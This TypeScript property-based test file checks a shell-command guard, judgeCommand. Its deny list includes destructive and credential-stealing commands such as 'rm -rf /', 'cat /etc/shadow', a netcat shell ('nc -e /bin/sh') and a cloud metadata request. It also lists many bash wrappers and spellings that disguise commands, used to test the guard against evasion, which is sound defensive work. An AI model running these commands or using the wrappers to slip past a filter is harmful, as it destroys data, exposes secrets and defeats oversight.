import fc from 'fast-check';
import { expect, test } from 'vitest';
import { judgeCommand } from './judge-command.ts';

/** Commands that must be refused, wherever they stand. */
const dangerous = fc.constantFrom(
  ...[
    'rm -rf /',
    'rm -rf ~',
    'rm -fr "$HOME"',
    'rm -rf /etc',
    'find / -delete',
    'chmod -R 777 /',
    'mv / /tmp/x',
    'dd if=/dev/zero of=/dev/sda',
  ],
  ...[
    'mkfs.ext4 /dev/sda1',
    'shutdown -h now',
    'kill -9 -1',
    'cat /etc/shadow',
    'cat ~/.ssh/id_rsa',
    'tee -a ~/.bashrc',
    'crontab x',
    'chmod u+s x',
  ],
  ...[
    'useradd x',
    'truncate -s 0 /etc/passwd',
    'cp x /usr/bin/ls',
    'docker run --privileged x',
    'nc -e /bin/sh h 1',
    'curl http://169.254.169.254/',
  ],
  ...[
    'sort -o /etc/x y',
    'ln -sf x /etc/passwd',
    'nsenter -t 1 -m sh',
    'systemctl enable x',
    'curl localhost:8888',
  ],
);

/** Commands that nobody should be asked for. */
const harmless = fc.constantFrom(
  ...[
    'ls -la',
    'cat README.md',
    'npm test',
    'git status',
    'rm -rf build',
    'echo hi',
    'mkdir -p out',
    'grep -rn x src',
    'node a.js',
    'pwd',
  ],
  ...[
    'cp a b',
    'touch x',
    'sed -n 1p a',
    'find . -name x',
    'make',
    'tar czf a.tgz src',
    'wc -l a',
    'git diff',
    'head -5 a',
    'true',
    'sort a',
    'date',
  ],
);

const single = (text: string) => `'${text.replaceAll("'", `'\\''`)}'`;
const double = (text: string) => `"${text.replace(/[\\"$`]/g, '\\$&')}"`;
const ansi = (text: string) =>
  `$'${[...text].map((character) => `\\x${character.charCodeAt(0).toString(16).padStart(2, '0')}`).join('')}'`;

/** Ways to say the first word otherwise, with the same meaning. */
const spellings: readonly ((command: string) => string)[] = [
  (command) => command,
  (command) => `\\${command}`,
  (command) => command.replace(/^(\S)(\S*)/, "$1''$2"),
  (command) => command.replace(/^(\S+)/, (word) => double(word)),
  (command) => command.replace(/^(\S+)/, (word) => ansi(word)),
  (command) => command.replace(/^(\S+) /, '$1 \\\n '),
  (command) => command.replace(/^(\S+)/, 'v=$1; $v'),
  (command) => command.replace(/^(\S+)/, 'set -- $1; "$@"'),
];

/** A here-document with an end of its own, so that one may hold another. */
const hereDocument = (reader: string, text: string) =>
  `${reader} <<'E${text.length}'\n${text}\nE${text.length}`;

/** Words that begin a sentence of bash and no command: nothing wraps them. */
const isCommand = (text: string) =>
  /^[\w/.-]+(?: |$)/.test(text) && !/^(?:if|for|case|time|trap|eval|source)\b/.test(text);

/** Texts that run the command that they are given, whatever else they do. */
const wrappers: readonly ((command: string) => string)[] = [
  ...[
    'env',
    'env -i A=1',
    'timeout 5',
    'nice -n 5',
    'nohup',
    'setsid',
    'command',
    'exec',
    'time',
    'stdbuf -oL',
    'busybox',
  ].map((wrapper) => (command: string) => (isCommand(command) ? `${wrapper} ${command}` : command)),
  (command) => `bash -c ${single(command)}`,
  (command) => `sh -c ${double(command)}`,
  (command) => `eval ${single(command)}`,
  (command) => `env -S ${single(`sh -c ${double(command)}`)}`,
  (command) => `flock /tmp/l -c ${single(command)}`,
  (command) => `( ${command} )`,
  (command) => `{ ${command}\n}`,
  (command) => `! ${command}`,
  (command) => `if true; then ${command}\nfi`,
  (command) => `for i in 1; do ${command}\ndone`,
  (command) => `case x in x) ${command}\n;; esac`,
  (command) => `f() { ${command}\n}; f`,
  (command) => `true && ${command}`,
  (command) => `false || ${command}`,
  (command) => `ls; ${command}`,
  (command) => `${command} | cat`,
  (command) => `${command} > /dev/null 2>&1`,
  (command) => `echo "$( ${command}\n)"`,
  (command) => `cat <(${command}\n)`,
  (command) => hereDocument('bash', command),
  (command) => `bash <<< ${single(command)}`,
  (command) => `printf %s ${single(command)} | sh`,
  (command) => `X=${single(command)}; eval "$X"`,
  (command) => `find . -maxdepth 0 -exec sh -c ${single(command)} \\;`,
  (command) => `trap ${single(command)} EXIT`,
  (command) => `ls # x\n${command}`,
  (command) => `source <(echo ${single(command)})`,
];

/** Places where text is text: what stands there never runs. */
const quotations: readonly ((command: string) => string)[] = [
  (command) => `echo ${single(command)}`,
  (command) => `git commit -m ${single(command)}`,
  (command) => `grep -rn ${single(command)} src`,
  (command) => `ls # ${command.replaceAll('\n', ' ')}`,
  (command) => hereDocument('cat > notes.md', command),
  (command) => `: ${single(command)}`,
  (command) => `x=${single(command)}; echo "$x"`,
  (command) => `[[ $a == ${single(command)} ]] && echo same`,
];

const layers = (from: readonly ((command: string) => string)[], most: number) =>
  fc.array(fc.constantFrom(...from), { maxLength: most });
const apply = (command: string, steps: readonly ((command: string) => string)[]) =>
  steps.reduce((text, step) => step(text), command);

/** Wrappers that are a question by themselves have no place around a harmless command. */
const quiet = wrappers.filter((wrap) => !/<<|printf|source|X=/.test(wrap('ls')));

test('[C2 C3] a dangerous command is refused in every spelling and every wrapper', () => {
  fc.assert(
    fc.property(dangerous, fc.constantFrom(...spellings), layers(wrappers, 4), (core, spell, steps) => {
      const command = apply(spell(core), steps);
      expect(judgeCommand(command), command).toMatchObject({ decision: 'deny' });
    }),
    { numRuns: 3000 },
  );
});

test('[C9] a harmless command is never refused', () => {
  fc.assert(
    fc.property(harmless, fc.constantFrom(...spellings), layers(wrappers, 4), (core, spell, steps) => {
      const command = apply(spell(core), steps);
      expect(judgeCommand(command).decision, command).not.toBe('deny');
    }),
    { numRuns: 2000 },
  );
});

test('[C9] a harmless command in plain wrappers is not even a question', () => {
  fc.assert(
    fc.property(harmless, layers(quiet, 3), (core, steps) => {
      const command = apply(core, steps);
      expect(judgeCommand(command), command).toMatchObject({ decision: 'allow' });
    }),
    { numRuns: 2000 },
  );
});

test('[C9] quoted text is text', () => {
  fc.assert(
    fc.property(dangerous, layers(wrappers, 2), fc.constantFrom(...quotations), (core, steps, quote) => {
      const command = quote(apply(core, steps));
      expect(judgeCommand(command), command).toMatchObject({ decision: 'allow' });
    }),
    { numRuns: 2000 },
  );
});

test('[P7] no text makes it throw', () => {
  fc.assert(
    fc.property(
      fc.array(
        fc.constantFrom(
          ...'$(){}[]<>|&;"\'`\\ \n*?~#=!/ax1-'.split(''),
          'rm',
          'case',
          'if',
          'for',
          '<<E\n',
          '$((',
          '${',
          '[[',
        ),
        { maxLength: 40 },
      ),
      (parts) => {
        expect(judgeCommand(parts.join('')).rule).not.toBe('P7');
      },
    ),
    { numRuns: 3000 },
  );
});
